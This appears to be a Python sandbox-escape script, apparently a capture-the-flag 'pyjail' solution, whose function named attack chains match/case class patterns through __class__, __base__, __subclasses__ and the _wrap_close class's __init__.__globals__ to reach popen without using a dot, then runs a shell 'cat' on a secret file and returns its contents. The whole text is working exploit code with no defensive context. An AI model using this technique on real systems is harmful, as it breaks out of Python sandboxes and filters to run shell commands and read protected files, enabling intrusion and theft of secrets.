# A class pattern reads any attribute, without a dot.
def attack(xs, secret_path):
    match xs:
        case object(__class__=kind):
            match kind:
                case object(__base__=base):
                    match base:
                        case object(__subclasses__=every):
                            for found in every():
                                match found:
                                    case object(__name__="_wrap_close", __init__=start):
                                        match start:
                                            case object(__globals__=words):
                                                return words["popen"](
                                                    f"cat '{secret_path}'"
                                                ).read()
    raise ValueError("not found")
